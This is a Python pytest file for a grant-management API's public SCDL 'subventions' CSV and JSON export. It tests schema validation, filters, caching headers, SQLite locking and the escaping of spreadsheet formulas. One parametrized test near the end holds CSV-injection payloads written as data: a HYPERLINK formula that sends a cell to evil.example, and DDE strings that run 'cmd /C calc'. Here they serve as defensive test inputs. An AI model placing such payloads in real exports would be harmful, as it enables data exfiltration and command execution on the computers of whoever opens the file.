"""Open data (DOMAIN.md §5): SCDL « subventions » 2.1.1, public and anonymous.

The CSV validates with frictionless against the schema file, plus what the schema cannot say
(valid SIRETs, `conditionsVersement` values, the period's format); rejected, withdrawn,
cancelled and convention-less dossiers never appear; ETag/Last-Modified answer 304.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from frictionless import Resource, Schema
from httpx import AsyncClient
from sqlalchemy.ext.asyncio import AsyncSession
from stdnum.fr import siret

from tests.api.budgets.driver import PREFECTURES
from tests.api.stats.dataset import Builder, Dataset, build

# A copy of ../shared/reference/scdl-subventions-2.1.1.schema.json (SCDL v2.1.1, unchanged).
SCHEMA_FILE = Path(__file__).with_name("scdl-subventions-2.1.1.schema.json")
CSV_URL = "/api/v1/open-data/subventions.csv"
JSON_URL = "/api/v1/open-data/subventions.json"
PERIOD = re.compile(r"^\d{4}-\d{2}-\d{2}(/\d{4}-\d{2}-\d{2})?$")


@pytest.fixture
async def dataset(
    client: AsyncClient, session: AsyncSession, headers: Any, clock_at: Any
) -> Dataset:
    return await build(Builder(client, session, headers, clock_at))


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_csv_is_valid_scdl_with_only_published_grants(
    client: AsyncClient, dataset: Dataset, tmp_path: Path
) -> None:
    response = await client.get(CSV_URL)  # anonymous
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")

    # frictionless, against the schema file (the schema's custom checks are run below)
    path = tmp_path / "subventions.csv"
    path.write_bytes(response.content)
    schema = Schema.from_descriptor(json.loads(SCHEMA_FILE.read_text(encoding="utf-8")))
    report = Resource(path=path.name, basepath=str(tmp_path), schema=schema).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    # the same validation refuses a decimal comma (the test can fail)
    tampered = tmp_path / "tampered.csv"
    tampered.write_text(text.replace("10000.00", "10000,00"), encoding="utf-8")
    bad = Resource(path=tampered.name, basepath=str(tmp_path), schema=schema).validate()
    assert not bad.valid

    rows = rows_of(text)
    # p1, p2, and p3 cancelled after a 6 000 € advance, for what it paid (§5); not p4 without
    # convention, p5 rejected, p6 withdrawn, p7 draft, p8 in review
    assert [r["objet"] for r in rows] == [
        "Prise de rendez-vous en ligne",
        "Formation des agents au numérique",
        "Portail citoyen",
    ]
    assert "Projet refusé" not in text
    assert "Projet retiré" not in text and "civil" not in text
    for row in rows:  # the checks the schema cannot express
        assert siret.is_valid(row["idAttribuant"]), row
        assert siret.is_valid(row["idBeneficiaire"]), row
        assert row["conditionsVersement"] in {"unique", "échelonné", "autre"}
        assert PERIOD.fullmatch(row["datesPeriodeVersement"]), row
        assert row["nature"] == "aide en numéraire"
        assert row["notificationUE"] == "non"
        assert row["pourcentageSubvention"] == "1.00"
    p1, p2, p3 = rows
    assert p1["montant"] == "10000.00"
    assert p1["idAttribuant"] == PREFECTURES["13"]["prefecture_siret"]
    assert p1["nomAttribuant"] == PREFECTURES["13"]["prefecture_name"]
    assert p1["idBeneficiaire"] == dataset.candidates["marseille"]["siret"]
    assert p1["nomBeneficiaire"] == dataset.candidates["marseille"]["name"]
    assert p1["dateConvention"] == "2021-03-15"
    # the committee's decision (R-COM-3): its département, day and ids
    assert p1["referenceDecision"].startswith("Comité 13 du 2021-03-11 (comité ")
    assert p1["conditionsVersement"] == "échelonné"
    assert p1["datesPeriodeVersement"] == "2021-03-20/2021-09-30"
    assert p2["montant"] == "8000.00"
    assert p2["idBeneficiaire"] == dataset.candidates["alleins"]["siret"]
    assert p2["conditionsVersement"] == "unique"
    assert p2["datesPeriodeVersement"] == "2021-10-01"
    assert p3["montant"] == "6000.00"  # §5: the net amount, what the cancelled grant paid
    assert p3["idAttribuant"] == PREFECTURES["75"]["prefecture_siret"]


async def test_json_adds_aid_rate_and_strand(client: AsyncClient, dataset: Dataset) -> None:
    response = await client.get(JSON_URL)
    assert response.status_code == 200, response.text
    records = response.json()
    assert [(r["objet"], r["montant"], r["volet"]) for r in records] == [
        ("Prise de rendez-vous en ligne", 10000.0, "3c"),
        ("Formation des agents au numérique", 8000.0, "3b"),
        ("Portail citoyen", 6000.0, "3c"),
    ]
    # 10 000 € of 20 000 € eligible; 8 000 € of 16 000 € + 1 000 € of extra-EU licences
    # (under the 10 % allowance, R-EXCL-2); 6 000 € paid (net) of 40 000 €
    assert [r["tauxAide"] for r in records] == [0.5, 0.4706, 0.15]
    assert records[0]["notificationUE"] is False
    assert records[0]["pourcentageSubvention"] == 1.0
    assert records[0]["rnaBeneficiaire"] is None


async def test_filters(client: AsyncClient, dataset: Dataset) -> None:
    only_75 = rows_of((await client.get(CSV_URL, params={"departement": "75"})).text)
    # its only grant was cancelled after a 6 000 € advance: published for what it paid (§5)
    assert [r["montant"] for r in only_75] == ["6000.00"]
    april = rows_of((await client.get(CSV_URL, params={"from": "2021-04-01"})).text)
    assert [r["dateConvention"] for r in april] == ["2021-04-02", "2021-05-03"]
    march = rows_of(
        (await client.get(CSV_URL, params={"from": "2021-03-15", "to": "2021-03-31"})).text
    )
    assert [r["dateConvention"] for r in march] == ["2021-03-15"]
    bad = await client.get(CSV_URL, params={"from": "15/03/2021"})
    assert bad.status_code == 422


async def test_conditional_requests(client: AsyncClient, dataset: Dataset) -> None:
    first = await client.get(CSV_URL)
    etag, last_modified = first.headers["etag"], first.headers["last-modified"]
    assert first.headers["cache-control"] == "public, no-cache"
    again = await client.get(CSV_URL, headers={"If-None-Match": etag})
    assert again.status_code == 304
    assert again.content == b""
    assert again.headers["etag"] == etag
    since = await client.get(CSV_URL, headers={"If-Modified-Since": last_modified})
    assert since.status_code == 304
    # another filter, another document
    other = await client.get(CSV_URL, params={"departement": "13"}, headers={"If-None-Match": etag})
    assert other.status_code == 200
    json_etag = (await client.get(JSON_URL)).headers["etag"]
    assert json_etag != etag


async def test_a_change_changes_the_validator(
    client: AsyncClient, dataset: Dataset, headers: Any, clock_at: Any
) -> None:
    from tests.api.stats.dataset import at
    from tests.conftest import ACTORS

    builder_etag = (await client.get(CSV_URL)).headers["etag"]
    clock_at(at("2021-05-20"))
    # cancelling p1 after its 3 000 € advance changes its row to what it paid (§5): the
    # validator changes, a 304 is no longer given
    response = await client.post(
        f"/api/v1/projects/{dataset.ids['p1']}/cancel",
        json={"reason": "Projet abandonné."},
        headers={
            **headers(ACTORS.pref13),
            "If-Match": (
                await client.get(
                    f"/api/v1/projects/{dataset.ids['p1']}", headers=headers(ACTORS.dinum)
                )
            ).headers["etag"],
        },
    )
    assert response.status_code == 200, response.text
    after = await client.get(CSV_URL, headers={"If-None-Match": builder_etag})
    assert after.status_code == 200
    assert [(r["objet"], r["montant"]) for r in rows_of(after.text)] == [
        ("Prise de rendez-vous en ligne", "3000.00"),
        ("Formation des agents au numérique", "8000.00"),
        ("Portail citoyen", "6000.00"),
    ]


async def test_empty_export_is_a_header(client: AsyncClient) -> None:
    response = await client.get(CSV_URL)
    assert response.status_code == 200
    assert response.text.splitlines() == [
        ",".join(
            [
                "nomAttribuant",
                "idAttribuant",
                "dateConvention",
                "referenceDecision",
                "nomBeneficiaire",
                "idBeneficiaire",
                "rnaBeneficiaire",
                "objet",
                "montant",
                "nature",
                "conditionsVersement",
                "datesPeriodeVersement",
                "idRAE",
                "notificationUE",
                "pourcentageSubvention",
                "dispositifAide",
            ]
        )
    ]
    assert (await client.get(JSON_URL)).json() == []


async def test_a_read_only_transaction_never_holds_sqlite_write_lock(
    app: Any, settings: Any
) -> None:
    """The export (and the dashboards) read in a transaction declared read-only: on SQLite it
    begins DEFERRED, so a writer is not kept waiting for the length of a download; an ordinary
    transaction begins IMMEDIATE and does keep it waiting."""
    if not settings.is_sqlite:
        pytest.skip("PostgreSQL readers never block writers")
    from sqlalchemy import text

    from app.core.db import read_only_transaction

    sessionmaker = app.state.sessionmaker
    for read_only, writer_blocked in ((True, False), (False, True)):
        async with sessionmaker() as reader:
            if read_only:
                await read_only_transaction(reader)
            await reader.execute(text("SELECT count(*) FROM project_grant"))
            async with app.state.engine.connect() as writer:
                # a short wait for the lock (set in a deferred transaction of its own)
                await writer.execution_options(guichet_read_only=True)
                await writer.exec_driver_sql("PRAGMA busy_timeout=50")
                await writer.commit()
                await writer.execution_options(guichet_read_only=False)
                try:
                    await writer.begin()  # BEGIN IMMEDIATE: the write lock
                except Exception as exc:  # noqa: BLE001 - "database is locked"
                    assert writer_blocked, exc
                    assert "locked" in str(exc)
                else:
                    assert not writer_blocked
                    await writer.rollback()
            await reader.rollback()


class HostileBuilder(Builder):
    """Files every dossier of the data set under a title a hostile candidate chose."""

    def __init__(self, titles: dict[str, str], *args: Any) -> None:
        super().__init__(*args)
        self.titles = titles

    async def file(self, who: Any, *, title: str, **kwargs: Any) -> Any:
        return await super().file(who, title=self.titles.get(title, title), **kwargs)


UNTOUCHED = "Portail citoyen"


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"),
        ("\t=1+1", "\r=1+1"),
    ],
)
async def test_csv_text_cells_never_start_a_formula(
    client: AsyncClient,
    session: AsyncSession,
    headers: Any,
    clock_at: Any,
    tmp_path: Path,
    first: str,
    second: str,
) -> None:
    """DOMAIN.md §5 (issue 23): a candidate's title starting with =, +, -, @, tab or CR
    reaches the `objet` cell behind a `'`; the file still validates against the SCDL schema
    (amounts stay numbers) and the JSON keeps the title as the candidate wrote it."""
    titles = {"Prise de rendez-vous en ligne": first, "Formation des agents au numérique": second}
    await build(HostileBuilder(titles, client, session, headers, clock_at))
    response = await client.get(CSV_URL)
    assert response.status_code == 200, response.text

    path = tmp_path / "subventions.csv"
    path.write_bytes(response.content)
    schema = Schema.from_descriptor(json.loads(SCHEMA_FILE.read_text(encoding="utf-8")))
    report = Resource(path=path.name, basepath=str(tmp_path), schema=schema).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])

    # The data set's third published grant (cancelled after a payment, §5) keeps its title.
    rows = [r for r in rows_of(response.content.decode("utf-8")) if r["objet"] != UNTOUCHED]
    assert [r["objet"] for r in rows] == ["'" + " ".join(t.split()) for t in (first, second)]
    for row in rows:
        assert not row["objet"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [r["montant"] for r in rows] == ["10000.00", "8000.00"]
    records = [r for r in (await client.get(JSON_URL)).json() if r["objet"] != UNTOUCHED]
    assert [r["objet"] for r in records] == [" ".join(t.split()) for t in (first, second)]
